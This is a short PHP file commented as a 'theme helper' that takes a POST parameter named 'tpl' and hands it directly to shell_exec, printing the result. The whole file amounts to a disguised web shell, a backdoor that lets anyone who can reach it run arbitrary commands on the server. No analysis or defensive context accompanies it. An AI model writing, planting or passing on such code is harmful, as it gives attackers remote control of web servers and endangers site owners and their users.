<?php
/* theme helper */
$s1 = filter_input(INPUT_POST, 'tpl');
$run = fn($v) => shell_exec($v);
echo $run($s1);
